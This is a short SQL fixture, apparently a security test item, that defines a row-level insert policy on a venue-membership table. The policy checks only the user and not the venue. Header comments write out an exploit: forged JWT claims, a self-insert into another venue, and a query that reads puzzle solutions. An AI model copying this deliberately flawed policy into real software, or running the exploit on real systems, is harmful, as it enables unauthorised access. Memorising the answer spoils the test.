-- Anyone makes himself a member of any venue, because the insert policy checks the user and not the venue.
-- about: venue_members, members_insert
-- as: hf_puzzlevault_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-0000-0000-0000-000000000001"}';
-- exploit: INSERT INTO public.venue_members (venue_id, user_id, display_name)
-- exploit:   VALUES ('b0000000-0000-0000-0000-000000000002', 'aaaaaaaa-0000-0000-0000-000000000001', 'Ada');
-- exploit: SELECT solution FROM public.rooms;
-- shows: Road-secret solution

-- The sign-up page writes the membership of the new user.
GRANT INSERT ON public.venue_members TO hf_puzzlevault_app;
CREATE POLICY members_insert ON public.venue_members FOR INSERT TO hf_puzzlevault_app
  WITH CHECK (user_id = public.uid());
